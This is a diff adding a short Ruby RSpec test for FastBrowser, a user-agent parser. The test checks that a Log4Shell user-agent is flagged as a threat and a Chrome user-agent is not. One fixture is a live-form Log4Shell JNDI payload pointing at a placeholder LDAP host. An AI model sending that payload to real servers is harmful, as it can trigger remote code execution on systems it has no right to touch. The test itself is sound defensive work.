@@ -0,0 +1,22 @@
+require 'spec_helper'
+
+describe FastBrowser do
+  let(:chrome)    { 'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36' }
+  let(:log4shell) { '${jndi:ldap://198.51.100.1:1389/a}' }
+
+  describe '#threat?' do
+    it 'returns true for a Log4Shell payload' do
+      browser = FastBrowser.new log4shell
+
+      expect(browser.threat?).to eq true
+      expect(browser.threats).to eq ['Log4jLookup']
+    end
+
+    it 'returns false for Chrome' do
+      browser = FastBrowser.new chrome
+
+      expect(browser.threat?).to eq false
+      expect(browser.threats).to eq []
+    end
+  end
+end